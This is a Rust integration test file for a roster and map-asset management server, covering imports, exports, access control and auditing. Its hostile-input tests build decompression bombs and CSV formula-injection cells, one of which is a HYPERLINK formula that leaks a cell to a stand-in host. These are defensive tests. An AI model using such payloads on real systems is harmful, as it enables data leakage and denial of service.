    use shapefile::{Point, Polygon, PolygonRing, Polyline, Shape};
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let gcj = |lon: f64, lat: f64| {
        let [x, y] = sync_core::import::coords::wgs84_to_gcj02([lon, lat]);
        Point::new(x, y)
    };
    let river = || {
        Shape::Polyline(Polyline::new(vec![
            gcj(116.975, 36.805),
            gcj(116.985, 36.812),
        ]))
    };
    let ring = vec![
        gcj(116.95, 36.80),
        gcj(116.95, 36.81),
        gcj(116.96, 36.81),
        gcj(116.96, 36.80),
        gcj(116.95, 36.80),
    ];
    let forest = || Shape::Polygon(Polygon::new(PolygonRing::Outer(ring.clone())));
    let two_parts = Shape::Polyline(Polyline::with_parts(vec![
        vec![gcj(116.90, 36.80), gcj(116.91, 36.80)],
        vec![gcj(116.92, 36.80), gcj(116.93, 36.80)],
    ]));
    // One layer per shape type, as GIS tools write them: rivers as lines, forests as areas.
    let rivers = zipped_shapefile(&[
        ("鹊山沉沙池河段", "河长", "桑梓店街道", river()),
        ("两段河", "河长", "桑梓店街道", two_parts),
    ]);
    let (status, dry) = upload(&s, "/admin/import/assets?crs=gcj02", &admin, rivers.clone()).await;
    assert_eq!(status, 200, "{dry}");
    assert_eq!(outcomes(&dry), ["create", "refused"], "{dry}");
    assert_eq!(
        dry["rows"][0]["after"]["name"], "鹊山沉沙池河段",
        "GBK attributes decoded"
    );
    assert!(
        reasons(&dry, 1).contains("多个部分"),
        "{}",
        reasons(&dry, 1)
    );
    let (status, _) = upload(
        &s,
        "/admin/import/assets?crs=gcj02&dry_run=false",
        &admin,
        rivers,
    )
    .await;
    assert_eq!(status, 422, "one refused feature refuses the layer");

    let forests = zipped_shapefile(&[("鹊山新造林", "林长", "桑梓店街道", forest())]);
    let (status, applied) = upload(
        &s,
        "/admin/import/assets?crs=gcj02&dry_run=false",
        &admin,
        forests.clone(),
    )
    .await;
    assert_eq!(status, 200, "{applied}");
    let stored = s
        .get("/api/v1/admin/assets", &admin)
        .await
        .expect_ok()
        .clone();
    assert!(
        !stored
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["name"] == "鹊山沉沙池河段"),
        "the refused layer stored nothing"
    );
    let forest = stored
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["name"] == "鹊山新造林")
        .unwrap();
    assert_eq!(forest["system"], "forest");
    let corner = &forest["geometry"]["coordinates"][0][0];
    let d = sync_core::geo::haversine_m(
        36.80,
        116.95,
        corner[1].as_f64().unwrap(),
        corner[0].as_f64().unwrap(),
    );
    assert!(d < 0.1, "{d} m from the GPS corner");
    let (_, again) = upload(
        &s,
        "/admin/import/assets?crs=gcj02&dry_run=false",
        &admin,
        forests,
    )
    .await;
    assert_eq!(outcomes(&again), ["unchanged"]);
    // Not a Shapefile inside: refused before any row.
    let mut empty = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    empty
        .start_file("说明.txt", zip::write::SimpleFileOptions::default())
        .unwrap();
    let (status, body) = upload(
        &s,
        "/admin/import/assets?crs=wgs84",
        &admin,
        empty.finish().unwrap().into_inner(),
    )
    .await;
    assert_eq!(status, 422, "{body}");
    s.stop().await;
}

#[actix_web::test]
async fn a_batch_that_fails_part_way_stores_none_of_it() {
    use server::storage::{AdminBatch, UserRecord};
    let s = TestServer::demo().await;
    let store = s.state.store.as_ref();
    let facts = server::demo::facts();
    let mut asset = facts.assets[0].clone();
    asset.id = "batch-asset".into();
    let taken = store.find_user_by_username(CHIEF).unwrap().unwrap();
    let clash = UserRecord {
        user: sync_core::model::User {
            id: "another-id".into(),
            ..taken.user.clone()
        },
        ..taken.clone()
    };
    let batch = AdminBatch {
        assets: vec![asset],
        meta: vec![("person.post/another-id".into(), b"x".to_vec())],
        new_users: vec![clash],
        ..AdminBatch::default()
    };
    assert!(matches!(
        store.apply_admin_batch(&batch),
        Err(server::storage::StoreError::Conflict(_))
    ));
    assert!(store.get_asset("batch-asset").unwrap().is_none());
    assert!(store.get_meta("person.post/another-id").unwrap().is_none());
    assert!(store.get_user("another-id").unwrap().is_none());
    s.stop().await;
}

#[actix_web::test]
async fn a_roster_that_moves_a_chief_changes_what_their_phone_receives() {
    use sync_core::model::{DivisionCode, Level};
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let facts = server::demo::facts();
    let issues = s
        .get("/api/v1/issues?limit=200", &admin)
        .await
        .expect_ok()
        .clone();
    let rivers: Vec<&Value> = issues["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| i["system"] == "river")
        .collect();
    let problem = rivers[0];
    let target = DivisionCode::new(problem["division"].as_str().unwrap()).unwrap();
    let target = facts.divisions.iter().find(|d| d.code == target).unwrap();
    let start = facts
        .divisions
        .iter()
        .find(|d| {
            d.code.level() == target.code.level()
                && !rivers.iter().any(|i| {
                    d.code
                        .contains(&DivisionCode::new(i["division"].as_str().unwrap()).unwrap())
                })
        })
        .expect("a division of the same level without river problems");
    let level = sync_core::import::roster::level_name(target.code.level());
    let path = |d: &sync_core::model::Division| match d.code.level() {
        Level::Village => format!("桑梓店街道/{}", d.name),
        _ => d.name.clone(),
    };
    let row = |d: &sync_core::model::Division| {
        csv_roster(&[["冯河", "", level, "河长", &path(d), "", "13900000031"]])
    };
    let (_, applied) = upload(&s, "/admin/import/roster?dry_run=false", &admin, row(start)).await;
    let code = applied["setup_codes"][0]["code"]
        .as_str()
        .unwrap()
        .to_owned();
    let grant = s
        .request(
            "POST",
            "/api/v1/auth/setup",
            None,
            Some(json!({"username": "13900000031", "code": code, "password": "feng-he-2026", "device_id": "feng-phone"})),
        )
        .await
        .expect_ok()
        .clone();
    let phone = crate::phone::Phone::with_grant(&s, &grant, "feng-phone");
    let id = problem["id"].as_str().unwrap();
    phone.sync(server::state::now_ms()).await;
    assert!(phone.issue(id).is_none());

    let (_, moved) = upload(
        &s,
        "/admin/import/roster?dry_run=false",
        &admin,
        row(target),
    )
    .await;
    assert_eq!(outcomes(&moved), ["change"], "{moved}");
    phone.sync(server::state::now_ms()).await;
    assert!(
        phone.issue(id).is_some(),
        "the new division's problem reached the moved chief's phone"
    );
    s.stop().await;
}

/// A newer roster that leaves a chief out lists him as "not in this roster" and leaves his
/// account alone; only when the office asks does the same apply deactivate him (his phone
/// signed out at once, the change audited). A roster of one system says nothing of the others.
#[actix_web::test]
async fn chiefs_a_newer_roster_leaves_out_are_listed_and_deactivated_only_when_asked() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let facts = server::demo::facts();
    let gone = facts.user(server::demo::CHIEF_2).unwrap().clone();
    let exported = download(&s, "/admin/roster/export?format=csv", &admin).await;
    let text = String::from_utf8(exported).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let without = |username: &str| {
        let kept: Vec<&str> = lines
            .iter()
            .copied()
            .filter(|l| !l.ends_with(&format!(",{username}")))
            .collect();
        assert_eq!(
            kept.len() + 1,
            lines.len(),
            "{username} is on the roster once"
        );
        (kept.join("\n") + "\n").into_bytes()
    };
    let newer = without(&gone.username);
    let missing_names = |report: &Value| -> Vec<String> {
        report["missing"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["display_name"].as_str().unwrap().to_owned())
            .collect()
    };

    // The dry run lists him, with his post; nothing changes.
    let (status, dry) = upload(&s, "/admin/import/roster", &admin, newer.clone()).await;
    assert_eq!(status, 200, "{dry}");
    assert_eq!(
        missing_names(&dry),
        vec![gone.display_name.clone()],
        "{dry}"
    );
    assert_eq!(dry["missing"][0]["user_id"], gone.id.as_str());
    assert_eq!(dry["missing"][0]["deactivate"], false);
    assert!(dry["missing"][0]["division_name"].as_str().unwrap() != "");

    // Applied without the option: listed again, still active, still signed in.
    let phone = s.token(server::demo::CHIEF_2, "chief-2-phone").await;
    let (status, kept) = upload(
        &s,
        "/admin/import/roster?dry_run=false",
        &admin,
        newer.clone(),
    )
    .await;
    assert_eq!(status, 200, "{kept}");
    assert_eq!(missing_names(&kept), vec![gone.display_name.clone()]);
    let user = s
        .get(&format!("/api/v1/admin/users/{}", gone.id), &admin)
        .await
        .expect_ok()
        .clone();
    assert_eq!(user["user"]["active"], true, "{user}");
    s.get("/api/v1/me", &phone).await.expect_ok();

    // A roster of forest chiefs only does not list the river chiefs it leaves out.
    let forest: Vec<&str> = lines
        .iter()
        .copied()
        .enumerate()
        .filter(|(i, l)| *i == 0 || l.contains(",林长,"))
        .map(|(_, l)| l)
        .collect();
    assert!(forest.len() > 1, "the demo has forest chiefs: {text}");
    let (_, forest_only) = upload(
        &s,
        "/admin/import/roster",
        &admin,
        (forest.join("\n") + "\n").into_bytes(),
    )
    .await;
    assert!(
        forest_only["missing"].as_array().unwrap().is_empty(),
        "{forest_only}"
    );

    // Asked to: the dry run says so and changes nothing; the apply deactivates him.
    let query = "/admin/import/roster?deactivate_missing=true";
    let (_, dry) = upload(&s, query, &admin, newer.clone()).await;
    assert_eq!(dry["missing"][0]["deactivate"], true, "{dry}");
    s.get("/api/v1/me", &phone).await.expect_ok();
    let (status, applied) = upload(
        &s,
        "/admin/import/roster?dry_run=false&deactivate_missing=true",
        &admin,
        newer,
    )
    .await;
    assert_eq!(status, 200, "{applied}");
    assert_eq!(applied["applied"], true);
    let user = s
        .get(&format!("/api/v1/admin/users/{}", gone.id), &admin)
        .await
        .expect_ok()
        .clone();
    assert_eq!(user["user"]["active"], false, "{user}");
    assert_eq!(s.get("/api/v1/me", &phone).await.status.as_u16(), 401);
    let audit = s
        .get("/api/v1/admin/audit", &admin)
        .await
        .expect_ok()
        .clone();
    assert_eq!(audit[0]["action"], "roster_deactivate", "{audit}");
    assert_eq!(audit[0]["before"]["active"], true);
    assert_eq!(audit[0]["after"]["active"], false);
    // Everyone else on the roster is untouched.
    assert_eq!(applied["summary"]["change"], 0, "{applied}");
    assert_eq!(applied["missing"].as_array().unwrap().len(), 1);
    s.stop().await;
}

/// The template, the export and the three imports answer only administrators; an import file
/// over the limit is refused without reading on, an empty one too, and none of it changes the
/// roster or the audit.
#[actix_web::test]
async fn imports_and_exports_refuse_everyone_but_administrators_and_oversized_files() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let audit_before = s.get("/api/v1/admin/audit", &admin).await.body.clone();
    let users_before = s.get("/api/v1/admin/users", &admin).await.body.clone();
    let roster = csv_roster(&[]);
    for who in [SUPERVISOR, CHIEF, HANDLER] {
        let token = s.token(who, "phone").await;
        for path in [
            "/api/v1/admin/roster/template.xlsx",
            "/api/v1/admin/roster/export",
        ] {
            s.get(path, &token).await.expect_error(403, "forbidden");
        }
        for path in [
            "/admin/import/roster",
            "/admin/import/assets?crs=wgs84",
            "/admin/import/divisions",
        ] {
            let (status, body) = upload(&s, path, &token, roster.clone()).await;
            assert_eq!(
                (status, body["error"].as_str()),
                (403, Some("forbidden")),
                "{who} {path}"
            );
        }
    }
    for path in ["/admin/import/roster", "/admin/import/divisions"] {
        let (status, _) = upload(&s, path, "", roster.clone()).await;
        assert_eq!(status, 401, "anonymous {path}");
        let (status, body) = upload(&s, path, &admin, Vec::new()).await;
        assert_eq!(
            (status, body["error"].as_str()),
            (400, Some("bad_request")),
            "empty {path}"
        );
    }
    // One byte over the limit: 413 with the JSON error, nothing stored.
    let oversized = vec![b'a'; 16 * 1024 * 1024 + 1];
    let (status, body) = upload(&s, "/admin/import/roster?dry_run=false", &admin, oversized).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (413, Some("payload_too_large"))
    );
    assert_eq!(
        s.get("/api/v1/admin/users", &admin).await.body,
        users_before
    );
    assert_eq!(
        s.get("/api/v1/admin/audit", &admin).await.body,
        audit_before
    );
}

// ---- hostile files and hostile rows ------------------------------------------------------

/// The roster template with its first sheet's XML changed by `edit` (the other parts as the
/// server wrote them), zipped again with fast compression.
async fn template_with_sheet(
    s: &TestServer,
    admin: &str,
    edit: impl Fn(&str) -> String,
) -> Vec<u8> {
    use std::io::{Read, Write};
    let template = download(s, "/admin/roster/template.xlsx", admin).await;
    let mut from = zip::ZipArchive::new(std::io::Cursor::new(template)).unwrap();
    let mut to = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_level(Some(1));
    for i in 0..from.len() {
        let mut entry = from.by_index(i).unwrap();
        let name = entry.name().unwrap().into_owned();
        let mut text = Vec::new();
        entry.read_to_end(&mut text).unwrap();
        if name == "xl/worksheets/sheet1.xml" {
            text = edit(std::str::from_utf8(&text).unwrap()).into_bytes();
        }
        to.start_file(name, options).unwrap();
        to.write_all(&text).unwrap();
    }
    to.finish().unwrap().into_inner()
}

#[actix_web::test]
async fn a_small_spreadsheet_that_would_fill_memory_is_refused_and_the_server_keeps_serving() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let users_before = s.get("/api/v1/admin/users", &admin).await.body.clone();

    // Two cells, A1 and XFD1048576: a few kilobytes that a whole-sheet grid would turn into
    // seventeen billion cells.
    let corners = template_with_sheet(&s, &admin, |xml| {
        xml.replace(
            "</sheetData>",
            r#"<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>"#,
        )
        .replace(r#"<dimension ref="A1:G1"/>"#, r#"<dimension ref="A1:XFD1048576"/>"#)
    })
    .await;
    assert!(corners.len() < 64 * 1024, "{} bytes", corners.len());
    for path in ["/admin/import/roster", "/admin/import/divisions"] {
        let (status, body) = upload(&s, path, &admin, corners.clone()).await;
        assert_eq!(
            (status, body["error"].as_str()),
            (422, Some("bad_import_file")),
            "{path}: {body}"
        );
        assert!(body["message"].as_str().unwrap().contains("行"), "{body}");
    }

    // A sheet that unpacks to more than 64 MiB (here, spaces between its rows) is refused by
    // its unpacked size before anything parses it.
    let padded = template_with_sheet(&s, &admin, |xml| {
        xml.replace(
            "</sheetData>",
            &(" ".repeat(80 * 1024 * 1024) + "</sheetData>"),
        )
    })
    .await;
    assert!(padded.len() < 16 * 1024 * 1024, "{} bytes", padded.len());
    let (status, body) = upload(&s, "/admin/import/roster?dry_run=false", &admin, padded).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (413, Some("payload_too_large")),
        "{body}"
    );

    // The server still answers, and nothing was stored.
    assert_eq!(
        s.get("/api/v1/admin/users", &admin).await.body,
        users_before
    );
    // A roster sheet with its header in row 1 and a chief in row 3 still reads, by its
    // spreadsheet row numbers.
    let sparse = template_with_sheet(&s, &admin, |xml| {
        let cells: String = [
            "王河",
            "",
            "街道级",
            "河长",
            "桑梓店街道",
            "",
            "13900000001",
        ]
        .iter()
        .enumerate()
        .filter(|(_, v)| !v.is_empty())
        .map(|(i, v)| {
            format!(
                r#"<c r="{}3" t="inlineStr"><is><t>{v}</t></is></c>"#,
                (b'A' + i as u8) as char
            )
        })
        .collect();
        xml.replace(
            "</sheetData>",
            &format!(r#"<row r="3">{cells}</row></sheetData>"#),
        )
    })
    .await;
    let (status, dry) = upload(&s, "/admin/import/roster", &admin, sparse).await;
    assert_eq!(status, 200, "{dry}");
    assert_eq!(outcomes(&dry), ["create"], "{dry}");
    assert_eq!(dry["rows"][0]["row"], 3, "{dry}");
}

#[actix_web::test]
async fn a_zipped_layer_that_unpacks_to_more_than_the_limit_is_refused_and_nothing_stored() {
    use std::io::{Read, Write};
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let assets_before = s.get("/api/v1/admin/assets", &admin).await.body.clone();
    let layer = zipped_shapefile(&[(
        "炸弹河段",
        "河长",
        "桑梓店街道",
        shapefile::Shape::Polyline(shapefile::Polyline::new(vec![
            shapefile::Point::new(116.95, 36.73),
            shapefile::Point::new(116.96, 36.74),
        ])),
    )]);
    // The same layer with its attribute table followed by 80 MiB of zeros, which compress to
    // almost nothing. The reader used to cut the table at 64 MiB and go on quietly.
    let mut from = zip::ZipArchive::new(std::io::Cursor::new(layer)).unwrap();
    let mut to = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().compression_level(Some(1));
    for i in 0..from.len() {
        let mut entry = from.by_index(i).unwrap();
        let name = entry.name().unwrap().into_owned();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).unwrap();
        if name.ends_with(".dbf") {
            bytes.resize(bytes.len() + 80 * 1024 * 1024, 0);
        }
        to.start_file(name, options).unwrap();
        to.write_all(&bytes).unwrap();
    }
    let bomb = to.finish().unwrap().into_inner();
    assert!(bomb.len() < 1024 * 1024, "{} bytes", bomb.len());
    let (status, body) = upload(
        &s,
        "/admin/import/assets?crs=wgs84&dry_run=false",
        &admin,
        bomb,
    )
    .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (413, Some("payload_too_large")),
        "{body}"
    );
    assert_eq!(
        s.get("/api/v1/admin/assets", &admin).await.body,
        assets_before
    );
}

#[actix_web::test]
async fn exported_rosters_never_carry_a_formula_and_read_back_unchanged() {
    use calamine::Reader;
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let formula = r#"=HYPERLINK("http://example.invalid/?"&A1,"点击")"#;
    let roster = csv_roster(&[
        [
            formula,
            "+1+1",
            "街道级",
            "河长",
            "桑梓店街道",
            "",
            "13900000011",
        ],
        [
            "@SUM(1)",
            "-2+3",
            "街道级",
            "河长",
            "桑梓店街道",
            "",
            "13900000012",
        ],
    ]);
    let (status, applied) = upload(&s, "/admin/import/roster?dry_run=false", &admin, roster).await;
    assert_eq!(status, 200, "{applied}");

    // CSV: every cell that would start a formula opens as text.
    let csv = download(&s, "/admin/roster/export?format=csv", &admin).await;
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(&csv[3..]);
    let mut seen = 0;
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a formula in the CSV export: {cell}"
            );
            if cell == format!("'{formula}") || cell == "'@SUM(1)" || cell == "'-2+3" {
                seen += 1;
            }
        }
    }
    assert_eq!(seen, 3, "the names and posts are kept as text");

    // XLSX: the cells are text, with no formula anywhere.
    let xlsx = download(&s, "/admin/roster/export", &admin).await;
    let mut book = calamine::Xlsx::new(std::io::Cursor::new(xlsx.clone())).unwrap();
    let formulas = book.worksheet_formula("河长名录").unwrap();
    assert!(
        formulas.cells().all(|(_, _, f)| f.is_empty()),
        "a formula in the XLSX export"
    );
    let values = book.worksheet_range("河长名录").unwrap();
    assert!(values.cells().any(|(_, _, v)| *v == formula));

    // Both exports read back as they are: nothing changes.
    for export in [csv, xlsx] {
        let (status, again) = upload(&s, "/admin/import/roster", &admin, export).await;
        assert_eq!(status, 200, "{again}");
        assert!(outcomes(&again).iter().all(|o| o == "unchanged"), "{again}");
    }
}

#[actix_web::test]
async fn a_roster_cannot_make_or_change_an_administrator_supervisor_or_stopped_chief() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let facts = server::demo::facts();
    let users_before = s.get("/api/v1/admin/users", &admin).await.body.clone();
    let audit_before = s.get("/api/v1/admin/audit", &admin).await.body.clone();
    // Rows naming the staff's accounts, in any letter case: each is refused, none becomes a
    // chief, none is touched.
    let rows: Vec<[String; 7]> = [ADMIN, SUPERVISOR, HANDLER, "DEMO-ADMIN"]
        .iter()
        .map(|who| {
            [
                "冒充".into(),
                "".into(),
                "街道级".into(),
                "河长".into(),
                "桑梓店街道".into(),
                "".into(),
                (*who).into(),
            ]
        })
        .collect();
    let borrowed: Vec<[&str; 7]> = rows
        .iter()
        .map(|r| std::array::from_fn(|i| r[i].as_str()))
        .collect();
    let roster = csv_roster(&borrowed);
    let (status, dry) = upload(&s, "/admin/import/roster", &admin, roster.clone()).await;
    assert_eq!(status, 200, "{dry}");
    for i in 0..rows.len() {
        assert_eq!(dry["rows"][i]["outcome"], "refused", "{dry}");
        assert!(reasons(&dry, i).contains("非河湖林田长账号"), "{dry}");
    }
    let (status, body) = upload(&s, "/admin/import/roster?dry_run=false", &admin, roster).await;
    assert_eq!(
        (status, body["error"].as_str()),
        (422, Some("import_refused"))
    );
    assert_eq!(
        s.get("/api/v1/admin/users", &admin).await.body,
        users_before
    );
    assert_eq!(
        s.get("/api/v1/admin/audit", &admin).await.body,
        audit_before
    );

    // A stopped chief listed again stays stopped and the row says why; the office starts the
    // account in 人员 (it still holds its old password), after which the row is unchanged.
    let stopped = facts.user(server::demo::CHIEF_2).unwrap().clone();
    let exported =
        String::from_utf8(download(&s, "/admin/roster/export?format=csv", &admin).await).unwrap();
    let mut lines = exported.lines();
    let header = lines.next().unwrap().to_owned();
    let row = lines
        .find(|l| l.ends_with(&format!(",{}", stopped.username)))
        .unwrap()
        .to_owned();
    let his_row = (header + "\n" + &row + "\n").into_bytes();
    s.post(
        &format!("/api/v1/admin/users/{}/deactivate", stopped.id),
        &admin,
        json!({}),
    )
    .await
    .expect_ok();
    let (status, body) = upload(
        &s,
        "/admin/import/roster?dry_run=false",
        &admin,
        his_row.clone(),
    )
    .await;
    assert_eq!(
        (status, body["error"].as_str()),
        (422, Some("import_refused")),
        "{body}"
    );
    let (_, dry) = upload(&s, "/admin/import/roster", &admin, his_row.clone()).await;
    assert_eq!(outcomes(&dry), ["refused"], "{dry}");
    assert!(reasons(&dry, 0).contains("已停用"), "{dry}");
    let record = s
        .get(&format!("/api/v1/admin/users/{}", stopped.id), &admin)
        .await;
    assert_eq!(
        record.expect_ok()["user"]["active"],
        false,
        "{:?}",
        record.body
    );
    s.request(
        "PATCH",
        &format!("/api/v1/admin/users/{}", stopped.id),
        Some(&admin),
        Some(json!({"active": true})),
    )
    .await
    .expect_ok();
    let (status, again) = upload(&s, "/admin/import/roster", &admin, his_row).await;
    assert_eq!(status, 200, "{again}");
    assert_eq!(outcomes(&again), ["unchanged"], "{again}");
}

#[actix_web::test]
async fn every_administrative_write_is_one_entry_naming_the_administrator_and_no_secret() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    let admin_id = s
        .state
        .store
        .find_user_by_username(ADMIN)
        .unwrap()
        .unwrap()
        .user
        .id;
    let chief = s.state.store.find_user_by_username(CHIEF).unwrap().unwrap();
    let chief_phone = s.token(CHIEF, "chief-phone").await;
    let entries = |audit: &Value| audit.as_array().unwrap().len();
    let mut seen = entries(s.get("/api/v1/admin/audit", &admin).await.expect_ok());
    let password = "a-secret-pass-123";
    let mut secrets = vec![password.to_owned()];

    // Each write, the action it must leave, and whether the entry has a before and an after.
    let division = "370105999000";
    let asset = json!({"id": "audit-test-river", "system": "river", "name": "审计测试河段",
        "division": "370105014000", "geometry": line(&[[116.95, 36.73], [116.96, 36.74]])});
    let writes: Vec<(&str, String, Value, &str, bool, bool)> = vec![
        (
            "POST",
            "/api/v1/admin/users".into(),
            json!({"username": "audit-staff", "display_name": "审计员", "password": password,
                "role": {"kind": "handler", "department": "水务局"}}),
            "user_create",
            false,
            true,
        ),
        (
            "POST",
            format!("/api/v1/admin/users/{}/post", chief.user.id),
            json!({"post": "街道办副主任"}),
            // The demo chief had no post before.
            "post_change",
            false,
            true,
        ),
        (
            "POST",
            format!("/api/v1/admin/users/{}/password", chief.user.id),
            json!({"password": password}),
            "password_reset",
            false,
            false,
        ),
        (
            "POST",
            format!("/api/v1/admin/users/{}/setup-code", chief.user.id),
            json!({}),
            "setup_code_issued",
            false,
            false,
        ),
        (
            "POST",
            "/api/v1/admin/divisions".into(),
            json!({"code": division, "name": "审计街道", "parent": "370105000000"}),
            "division_create",
            false,
            true,
        ),
        (
            "PUT",
            format!("/api/v1/admin/divisions/{division}"),
            json!({"name": "审计街道二", "parent": "370105000000"}),
            "division_change",
            true,
            true,
        ),
        (
            "POST",
            "/api/v1/admin/assets".into(),
            asset.clone(),
            "asset_create",
            false,
            true,
        ),
        (
            "PUT",
            "/api/v1/admin/assets/audit-test-river".into(),
            json!({"system": "river", "name": "审计测试河段二", "division": "370105014000",
                "geometry": asset["geometry"]}),
            "asset_change",
            true,
            true,
        ),
    ];
    for (method, path, body, action, before, after) in writes {
        let reply = s.request(method, &path, Some(&admin), Some(body)).await;
        assert!(
            reply.status.is_success(),
            "{path}: {} {}",
            reply.status,
            reply.body
        );
        if let Some(code) = reply.body["code"]
            .as_str()
            .filter(|_| path.ends_with("/setup-code"))
        {
            secrets.push(code.to_owned());
        }
        let audit = s
            .get("/api/v1/admin/audit", &admin)
            .await
            .expect_ok()
            .clone();
        assert_eq!(entries(&audit), seen + 1, "{path}: one entry");
        seen += 1;
        let e = &audit[0];
        assert_eq!(e["action"], action, "{path}: {e}");
        assert_eq!(e["by"], admin_id.as_str(), "{path}: {e}");
        assert!(e["by_name"].as_str().is_some_and(|n| !n.is_empty()), "{e}");
        assert!(!e["target"].as_str().unwrap().is_empty(), "{e}");
        assert_eq!(!e["before"].is_null(), before, "{path}: before in {e}");
        assert_eq!(!e["after"].is_null(), after, "{path}: after in {e}");
    }
    assert_eq!(
        secrets.len(),
        2,
        "the setup code was shown once to the office"
    );

    // A phone revoked from the desk stops at once; the revocation is audited.
    s.get("/api/v1/me", &chief_phone)
        .await
        .expect_error(401, "device_revoked");
    let phone = s
        .login_reply(CHIEF, password, "chief-phone-2")
        .await
        .expect_ok()["access_token"]
        .as_str()
        .unwrap()
        .to_owned();
    let chief = s.state.store.find_user_by_username(CHIEF).unwrap().unwrap();
    s.request(
        "POST",
        "/api/v1/admin/devices/revoke",
        Some(&admin),
        Some(json!({"user_id": chief.user.id, "device_id": "chief-phone-2"})),
    )
    .await;
    s.get("/api/v1/me", &phone)
        .await
        .expect_error(401, "device_revoked");
    let audit = s
        .get("/api/v1/admin/audit", &admin)
        .await
        .expect_ok()
        .clone();
    assert_eq!(audit[0]["action"], "device_revoke", "{}", audit[0]);
    assert_eq!(audit[0]["after"]["device_id"], "chief-phone-2");
    assert_eq!(audit[0]["by"], admin_id.as_str());

    // No password, setup code or password hash is ever written into the audit.
    let text = audit.to_string();
    for secret in &secrets {
        assert!(!text.contains(secret.as_str()), "a secret in the audit");
    }
    assert!(
        !text.contains("password_hash") && !text.contains("$argon2"),
        "a hash in the audit"
    );
    s.stop().await;
}

#[actix_web::test]
async fn an_asset_far_from_every_patrol_track_is_warned_about_in_the_dry_run() {
    let s = TestServer::demo().await;
    let admin = s.token(ADMIN, "pc").await;
    // A position the demo's patrols walked.
    let tracks = s
        .get("/api/v1/export/patrols.geojson", &admin)
        .await
        .expect_ok()
        .clone();
    let walked = tracks["features"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["geometry"]["type"] == "LineString")
        .expect("a demo patrol track")["geometry"]["coordinates"][0]
        .clone();
    let [lon, lat] = [walked[0].as_f64().unwrap(), walked[1].as_f64().unwrap()];
    let near = feature(
        "轨迹旁河段",
        "河长",
        "桑梓店街道",
        line(&[[lon, lat], [lon + 0.002, lat + 0.001]]),
    );
    // The same segment half a degree east (about 45 km): a file in the wrong coordinate
    // system, or of another district, looks like this.
    let far = feature(
        "远处河段",
        "河长",
        "桑梓店街道",
        line(&[[lon + 0.5, lat], [lon + 0.502, lat + 0.001]]),
    );
    let body =
        serde_json::to_vec(&json!({"type": "FeatureCollection", "features": [near, far]})).unwrap();
    let (status, dry) = upload(&s, "/admin/import/assets?crs=wgs84", &admin, body).await;
    assert_eq!(status, 200, "{dry}");
    assert_eq!(outcomes(&dry), ["create", "create"], "{dry}");
    assert!(dry["rows"][0]["warning"].is_null(), "{dry}");
    let warning = dry["rows"][1]["warning"].as_str().unwrap_or_default();
    assert!(
        warning.contains("公里") && warning.contains("坐标系"),
        "{dry}"
    );
}
